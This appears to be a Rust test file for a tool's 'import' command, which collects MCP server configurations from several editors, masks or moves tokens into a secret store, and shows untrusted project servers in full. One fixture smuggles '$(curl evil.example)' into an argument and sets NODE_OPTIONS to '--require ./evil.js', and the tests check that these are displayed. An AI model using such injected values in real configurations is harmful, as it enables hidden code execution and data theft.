//! `import`: one table, a choice, and tokens in the secret store.

use serde_json::{Value, json};
use wharf_testkit::test_home::{TestHome, USER_CONFIG};

const CHOICE: &str = "(d)etails? ";

/// A home with servers of two programs, one of them with tokens.
fn furnished() -> TestHome {
    let home = TestHome::new();
    let cursor = json!({ "mcpServers": {
        "files": { "command": "npx", "args": ["-y", "files", "--api-key", "hush-argument"] },
        "docs": { "url": "https://docs.example/mcp", "headers": { "Authorization": "Bearer hush-header" } },
    } });
    home.write("home/.cursor/mcp.json", &cursor.to_string());
    let gemini = json!({ "mcpServers": {
        "docs": { "command": "other" },
        "hub": { "command": "hub", "env": { "HUB_TOKEN": "hush-variable", "MODE": "fast" } },
    } });
    home.write("home/.gemini/settings.json", &gemini.to_string());
    home
}

fn entries(home: &TestHome) -> Value {
    let text: Value = serde_json::from_str(&home.read(USER_CONFIG)).unwrap();
    text["mcpServers"].clone()
}

fn fates(document: &Value) -> Vec<(&str, &str)> {
    let items = document["items"].as_array().unwrap();
    items.iter().map(|item| (item["id"].as_str().unwrap(), item["fate"].as_str().unwrap())).collect()
}

/// U5: all servers are in one table before the only question.
#[test]
fn import_shows_one_table_and_stores_the_chosen_servers() {
    let home = furnished();
    let mut terminal = home.terminal("import");
    terminal.answer(CHOICE, "7");
    terminal.answer(CHOICE, "1 3");
    terminal.answer("Move them into the secret store? [y/N] ", "n");
    let ended = terminal.end();
    assert_eq!(ended.code, Some(0), "{ended:?}");
    assert_eq!(entries(&home).as_object().unwrap().keys().collect::<Vec<_>>(), ["docs", "hub"]);
    let listed = home.run_ok(&["list", "--json"]).json();
    assert!(listed["items"].as_array().unwrap().iter().all(|item| item["state"] == "enabled"), "{listed}");
}

#[test]
fn import_of_none_stores_nothing() {
    let home = furnished();
    let mut terminal = home.terminal("import");
    terminal.answer(CHOICE, "d");
    terminal.answer(CHOICE, "n");
    assert_eq!(terminal.end().code, Some(0));
    assert!(!home.path(USER_CONFIG).exists());
}

/// U5: without a terminal, `--all` stores servers enabled; those of a project's file stay disabled, with the reason.
#[test]
fn import_all_enables_servers_of_the_user_only() {
    let home = furnished();
    home.write("project/.vscode/mcp.json", r#"{"servers": {"theirs": {"command": "evil"}}}"#);
    home.write(
        "home/.codeium/windsurf/mcp_config.json",
        r#"{"mcpServers": {"off": {"command": "a", "disabled": true}}}"#,
    );
    let ran = home.run(["import", "--all", "--json"]);
    let document = ran.json();
    let expected = [
        ("docs", "stored"),
        ("files", "stored"),
        ("theirs", "stored_disabled"),
        ("docs", "already_there"),
        ("hub", "stored"),
        ("off", "stored_disabled"),
    ];
    assert_eq!((ran.code, fates(&document)), (Some(0), expected.to_vec()), "{document}");
    assert!(document["items"][2]["reason"].as_str().unwrap().contains("file of this project"), "{document}");
    assert_eq!(document["items"][5]["reason"], "it is disabled in windsurf");
    assert_eq!(
        (&entries(&home)["hub"]["enabled"], &entries(&home)["theirs"]["enabled"]),
        (&Value::Null, &json!(false))
    );
    assert!(
        ran.stderr.contains("hub is stored with secrets in clear text: env HUB_TOKEN; --store-secrets"),
        "{}",
        ran.stderr
    );
    assert!(!ran.stderr.contains("hush") && !ran.stdout.contains("hush"), "{ran:?}");
}

/// A project's server is shown as it would run, not with masked arguments and variables, and input typed before the
/// question does not answer it.
#[test]
fn import_shows_a_project_server_in_full() {
    let home = TestHome::new();
    let script = home.write_program("tools/node", "#!/bin/sh\n");
    let path = script.parent().unwrap().display().to_string();
    let server = json!({
        "command": "node",
        "args": ["server.js", "--api-key", "$(curl evil.example)"],
        "env": { "PATH": path, "NODE_OPTIONS": "--require ./evil.js" },
    });
    home.write("project/.cursor/mcp.json", &json!({ "mcpServers": { "theirs": server } }).to_string());
    let mut terminal = home.terminal("import");
    terminal.answer(CHOICE, "a");
    terminal.answer("Move them into the secret store? [y/N] ", "n");
    terminal.answer("Store theirs? [y/N] ", "n");
    let ended = terminal.end();
    for part in ["argument 3: $(curl evil.example)", "NODE_OPTIONS: --require ./evil.js", &*script.to_string_lossy()] {
        assert!(ended.shown.replace("\n  │ ", "").contains(part), "{part}: {}", ended.shown);
    }
    assert!(!ended.shown.contains("program: not found"), "{}", ended.shown);
}

#[test]
fn dry_run_shows_the_table_and_stores_nothing() {
    let home = furnished();
    let ran = home.run_ok(&["import", "--dry-run", "--all"]);
    for part in ["files  cursor", "https://docs.example/mcp", "1 token in clear text", "same name as the one of cursor"]
    {
        assert!(ran.stderr.contains(part), "{part}: {}", ran.stderr);
    }
    assert!(ran.stderr.ends_with("3 can be stored. Nothing was stored (--dry-run).\n"), "{}", ran.stderr);
    assert!(!ran.stderr.contains("hush") && !home.path(USER_CONFIG).exists());
    let document = home.run_ok(&["import", "--dry-run", "--json"]).json();
    assert_eq!(fates(&document)[0], ("docs", "storable"));
}

/// U5: tokens go into the secret store, and the entries refer to them.
#[test]
fn import_moves_tokens_into_the_secret_store() {
    let home = furnished();
    let document = home.run_ok(&["import", "--all", "--store-secrets", "--json"]).json();
    assert_eq!(document["items"][1]["secrets"], json!(["files.arg4"]));
    let stored = entries(&home);
    assert_eq!(stored["files"]["args"], json!(["-y", "files", "--api-key", "${secret:files.arg4}"]));
    assert_eq!(stored["docs"]["headers"]["Authorization"], "Bearer ${secret:docs.Authorization}");
    assert_eq!(stored["hub"]["env"], json!({ "HUB_TOKEN": "${secret:hub.HUB_TOKEN}", "MODE": "fast" }));
    assert!(!home.read(USER_CONFIG).contains("hush"));
    let names = home.run_ok(&["secret", "list"]).stdout;
    assert_eq!(names, "docs.Authorization\nfiles.arg4\nhub.HUB_TOKEN\n");
}

/// U5: an empty home says what can be imported.
#[test]
fn list_in_an_empty_home_names_programs_with_servers() {
    let home = furnished();
    let ran = home.run_ok(&["list"]);
    assert!(
        ran.stderr.contains("Found servers of other programs: cursor (2), gemini (2)\n  next: wharf import\n"),
        "{ran:?}"
    );
    home.run_ok(&["add", "x", "--", "a"]);
    assert!(!home.run_ok(&["list"]).stderr.contains("other programs"));
    assert!(!TestHome::new().run_ok(&["list"]).stderr.contains("other programs"));
}
